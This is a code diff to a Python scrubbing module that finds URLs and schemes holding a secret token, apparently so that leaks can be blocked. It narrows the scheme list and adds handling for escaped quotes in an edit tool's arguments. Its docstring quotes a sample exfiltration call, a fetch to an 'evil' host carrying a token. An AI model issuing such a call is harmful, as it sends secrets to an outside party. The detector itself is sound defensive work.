@@ -16,7 +16,7 @@ from localrouter.scrub.jsontext import unescape
 URL_MAX = 2048
 WORD_MAX = 256
 
-_SCHEMES = "data|javascript|vbscript|blob|https?|ftp|file|wss?|xmpp|tel|sms|magnet|intent|view-source|ssh|git|ldap|jar|filesystem"
+_SCHEMES = "data|javascript|vbscript|blob|https?|ftp|file|wss?|xmpp|magnet|intent|view-source|ssh|git|ldap|jar|filesystem"
 _SIGN = re.compile(
     r"[A-Za-z0-9][A-Za-z0-9+.\-_]{0,62}:\\{0,4}/\\{0,4}/"
     rf"|(?<![A-Za-z0-9+.\-])(?i:{_SCHEMES}):(?=\S)"
@@ -98,11 +98,13 @@ def address(text: str, start: int, token: int, after: int, end: int, mode: Mode)
     return None
 
 
-def quoted(text: str, low: int, token: int) -> tuple[int, str] | None:
+def quoted(text: str, low: int, token: int, *, escaped: bool) -> tuple[int, str] | None:
     """(beginning, quote) of an address that fills a quoted string from its beginning and in which the token stands: it may hold
-    spaces (`fetch("https://evil/?q= TOKEN")`)."""
+    spaces (`fetch("https://evil/?q= TOKEN")`). `escaped`: a bare double quote bounds a whole file, in an edit tool's arguments."""
     for quote in "\"'`<":
         at = text.rfind(quote, low, token) + 1
+        if escaped and quote == '"' and text[at - 2 : at - 1] != "\\":
+            continue
         if at and "\n" not in text[at:token] and _FIXED.search(text, at, token):
             sign = _SIGN.match(text, at)
             if sign and sign.end() <= token:
